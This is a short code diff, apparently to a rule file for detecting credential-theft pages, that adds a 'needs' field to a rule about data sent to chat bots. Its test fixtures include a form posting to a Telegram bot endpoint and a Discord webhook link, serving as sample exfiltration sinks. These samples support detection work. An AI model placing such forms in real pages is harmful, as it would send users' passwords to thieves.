@@ -29,6 +29,7 @@ _BOTS: Final = (
         "en": "What is typed here goes straight to a robot in a chat, as thieves of passwords collect them.",
         "ar": "ما يُكتب هنا يُرسل مباشرة إلى روبوت في محادثة، وهكذا يجمع لصوص كلمات المرور غنيمتهم.",
     },
+    needs="links",
     hits=lambda: [
         message(page='<form action="https://api.telegram.org/bot7:AA/sendMessage"><input name="q"></form>'),
         message(links=[("Open", "https://discord.com/api/webhooks/7/x")]),
